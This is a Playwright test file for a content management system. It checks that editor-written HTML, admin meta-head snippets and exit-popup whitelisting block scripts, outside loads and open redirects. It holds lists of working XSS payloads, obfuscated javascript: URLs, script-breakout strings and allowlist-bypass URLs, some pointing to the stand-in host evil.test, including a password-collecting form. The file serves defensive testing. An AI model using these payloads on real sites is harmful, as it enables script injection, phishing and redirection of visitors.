import { expect, type Page } from '@playwright/test';
import { createPage } from '@showroom/contracts/calls/pages';
import type { MarketCode } from '@showroom/contracts/markets';
import { expectAccessible } from '../support/accessible';
import { deleteMetaheads } from '../support/metaheads';
import { callPlatform, editedPage } from '../support/platform-call';
import { storeSettings } from '../support/settings';
import { signInAs } from '../support/sign-in';
import { test } from '../support/test';
import { visit } from '../support/visit';

/** Ways by which HTML of an editor would run a script, leave the page or cover it. */
const ATTACKS = [
  '<img src="/favicon.svg" onload="hit()">',
  '<img/src="/favicon.svg"/onload=hit()//',
  '<svg onload="hit()"><animate onbegin="hit()" attributeName="x" dur="1s"></svg>',
  '<svg><script>hit()</script></svg>',
  '<math><mtext><table><mglyph><style><img src=/favicon.svg onload="hit()"></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=/favicon.svg onload=hit()>"></noscript>',
  '<template shadowrootmode="open"><script>hit()</script></template>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<script src="https://evil.test/a.js"></script>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="https://evil.test/o"></object><embed src="https://evil.test/e">',
  '<details open ontoggle="hit()"><summary>More</summary></details>',
  '<video src="/nothing.mp4" autoplay onerror="hit()"><source onerror="hit()"></video>',
  '<input autofocus onfocus="hit()"><button formaction="javascript:hit()">Press</button>',
  '<form action="https://evil.test/f"><input name="password"></form>',
  '<style>@import "https://evil.test/s.css"; body { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.test/l.css">',
  '<meta http-equiv="refresh" content="0; url=https://evil.test/"><base href="https://evil.test/">',
  '<div style="position: fixed; inset: 0; background: url(https://evil.test/b.png)">Cover</div>',
  '<p onclick="hit()" onpointerenter="hit()">Paragraph</p>',
  '<img name="currentScript"><img id="page-state">',
].join('\n');

/** What would be loaded into the page from where nothing may come from is refused by its place. */
const REFUSED = [
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<iframe src="data:text/html,<script>parent.hit()</script>"></iframe>',
  '<img src="https://evil.test/i.png">',
  '<picture><source srcset="/favicon.svg 1x, https://evil.test/i.png 2x"></picture>',
];

/** Addresses that look harmless to a filter, and are code to a browser. */
const CODE = [
  'javascript:hit()',
  'JaVaScRiPt:hit()',
  'java\tscript:hit()',
  'java&#10;script:hit()',
  '&#106;&#97;vascript&colon;hit()',
  '\u0001javascript:hit()',
  'data:text/html,<script>opener.hit()</script>',
  'vbscript:hit()',
];
const links = (addresses: readonly string[]) =>
  addresses.map((address, index) => `<p><a href="${address}">Link ${index + 1}</a></p>`).join('\n');

interface Written {
  readonly market: MarketCode;
  readonly path: string;
  readonly locale: string;
  /** The last one is what is published. */
  readonly tries: readonly string[];
}

/** Publishes a page with a box of HTML; answers what saving each HTML came to. */
async function publish(editor: Page, { market, path, locale, tries }: Written): Promise<readonly number[]> {
  const begun = await callPlatform(editor, 'POST', '/pages', {
    body: { market, path, page_type: 'page', title: 'Hostile' },
  });
  const { id, attributes } = createPage.answer.parse(begun.body).data;
  const saved: number[] = [];
  for (const content of tries) {
    const block = {
      id: 'hostile',
      template: 'html-box',
      template_version: 1,
      positions: [{ id: 'only', sequence: 1 }],
      active_positions: ['only'],
      values: {},
      texts: { [locale]: { content } },
      groups: [],
    };
    const body = { content: { ...attributes.content, blocks: [block] } };
    const { status } = await callPlatform(editor, 'PUT', `/pages/${id}`, { body, revision: attributes.revision });
    saved.push(status);
  }
  const published = await callPlatform(editor, 'POST', `/pages/${id}/publish`, { revision: attributes.revision + 1 });
  expect(published.status).toBe(200);
  return saved;
}

/** Other tests find no page of ours. */
async function disable(editor: Page, market: MarketCode, path: string): Promise<void> {
  const { id, attributes } = await editedPage(editor, market, path);
  const { status } = await callPlatform(editor, 'POST', `/pages/${id}/unpublish`, { revision: attributes.revision });
  expect(status).toBe(200);
}

async function signIn(page: Page, address: string, email: string): Promise<void> {
  await page.goto(address);
  await signInAs(page, email);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
}

/** Notes what runs, and what is asked of others. */
async function watchAttacks(page: Page): Promise<() => Promise<readonly string[]>> {
  const noted: string[] = [];
  await page.exposeFunction('hit', () => void noted.push('a script ran'));
  await page.context().route(/evil\.test/, (route) => {
    noted.push(route.request().url());
    return route.abort();
  });
  page.on('dialog', (dialog) => noted.push(dialog.message()));
  return async () => {
    // What a script did is told by a message that comes behind it.
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve)));
    return noted;
  };
}

test('HTML that an editor wrote runs nothing, asks nobody, covers nothing, and its links are no code', async ({
  page,
  site,
  newVisitor,
  watch,
}) => {
  watch.expectTrouble(/422/);
  await signIn(page, `${site.url}/cms`, 'admin@showroom.test');
  const html = `<h1>Begins</h1>${ATTACKS}\n${links(CODE)}<p>Ends</p>`;
  const tries = [...REFUSED, html];
  const saved = await publish(page, { market: 'international', path: '/hostile', locale: 'en-GB', tries });
  expect(saved).toEqual([...REFUSED.map(() => 422), 200]);

  const visitor = await newVisitor();
  const noted = await watchAttacks(visitor);
  await visit(visitor, '/hostile');
  const box = visitor.locator('#content');
  await expect(box.getByText('Ends')).toBeVisible();
  const attributes = await box.evaluate((element) =>
    [...element.querySelectorAll('*')].flatMap((one) =>
      one.getAttributeNames().filter((name) => name.startsWith('on')),
    ),
  );
  expect(attributes).toEqual([]);
  for (const link of await box.getByText(/^Link \d+$/).all()) {
    await link.click();
    expect(new URL(visitor.url()).pathname).toBe('/hostile');
  }
  await box.getByText('Paragraph').click();
  expect(await noted()).toEqual([]);
  expect(visitor.context().pages()).toHaveLength(1);
  await disable(page, 'international', '/hostile');
});

test('what administrators add to pages ends no element of its own, and has no handlers', async ({
  page,
  site,
  newVisitor,
  watch,
}) => {
  watch.expectTrouble(/422/);
  const jp = site.addressOf('jp');
  await signIn(page, `${jp}/admin/metaheads`, 'admin@showroom.test');
  const plans = [
    ['javascript', 'const text = "</script><script>hit()</script>";', 422],
    ['js-src', 'javascript:hit()', 422],
    ['js-src', 'data:text/javascript,hit()', 422],
    ['css', 'main::before { content: "</style><script>hit()</script>"; }', 422],
    ['scss', '@import url("</style><script>hit()</script>");', 422],
    ['html', '<meta name="hostile" content="&quot;><script>hit()</script>">', 201],
    [
      'html',
      '<meta name="with-handler" content="a" onload="hit()"><link rel="icon" href="data:," onload="hit()">',
      201,
    ],
  ] as const;
  const plan = { market: 'jp', sequence: 1, rdx_core_page_id: null, reload_on_each_page: false, in_body: false };
  const added = plans.map(([language, content]) =>
    callPlatform(page, 'POST', '/metaheads', { body: { ...plan, language, content } }),
  );
  const statuses = (await Promise.all(added)).map(({ status }) => status);
  expect(statuses.map((status, index) => [plans[index]?.[1], status])).toEqual(
    plans.map(([, content, status]) => [content, status]),
  );

  const visitor = await newVisitor();
  const noted = await watchAttacks(visitor);
  await expect(async () => {
    await visit(visitor, `${jp}/offers`);
    await expect(visitor.locator('meta[name="with-handler"]')).toHaveCount(1, { timeout: 500 });
  }).toPass({ timeout: 30_000 });
  await expect(visitor.locator('meta[name="hostile"]')).toHaveAttribute('content', '"><script>hit()</script>');
  await expect(visitor.locator('head [onload]')).toHaveCount(0);
  expect(await noted()).toEqual([]);

  await page.reload();
  await deleteMetaheads(page, 2, '削除');
});

test('no way of writing another site’s address passes by the question before a visitor leaves', async ({
  page,
  site,
  newVisitor,
}) => {
  const au = site.addressOf('au');
  await signIn(page, `${au}/admin`, 'admin@showroom.test');
  const content = [{ locale: 'en-AU', header: 'You are leaving', ok_text: 'Go on', cancel_text: 'Stay' }];
  await storeSettings(page, 'au', { 'exit_popup.content': content, 'exit_popup.whitelist': 'good.test/shop' });
  const asked = [
    'https://evil.test/',
    'HTTPS://EVIL.TEST/',
    '//evil.test/',
    'https://good.test@evil.test/',
    'https://good.test.evil.test/',
    'https://good.test:8443/shop',
    'https://good.test/shop-of-evil',
    'https://good.test/shop/../other',
    'https://evil.test/?https://good.test/shop',
    'https://evil.test/#good.test/shop',
  ];
  const html = `<h1>Leaving</h1>${links(asked)}<p><a href="https://evil.test/" target="_blank">Window</a></p>`;
  await publish(page, { market: 'au', path: '/leaving', locale: 'en-AU', tries: [html] });

  const visitor = await newVisitor();
  const noted = await watchAttacks(visitor);
  await expect(async () => {
    await visit(visitor, `${au}/leaving`);
    expect(await visitor.content()).toContain('You are leaving');
  }).toPass({ timeout: 30_000 });
  await visitor.waitForLoadState('networkidle');
  const question = visitor.getByRole('dialog', { name: 'You are leaving' });
  const shown = visitor.locator('#content').getByRole('link', { name: /^(Link \d+|Window)$/ });
  await expect(shown).toHaveCount(asked.length + 1);
  for (const [index, link] of (await shown.all()).entries()) {
    await (index % 2 === 0 ? link.click() : link.press('Enter'));
    await expect(question, asked[index] ?? 'a window').toBeVisible();
    await question.getByRole('button', { name: 'Stay' }).click();
    await expect(question).toBeHidden();
  }
  await expectAccessible(visitor, 'a page with links to other sites');
  expect(await noted()).toEqual([]);
  expect(visitor.url()).toBe(`${au}/leaving`);
  expect(visitor.context().pages()).toHaveLength(1);
  await storeSettings(page, 'au', { 'exit_popup.content': [], 'exit_popup.whitelist': '' });
  await disable(page, 'au', '/leaving');
});
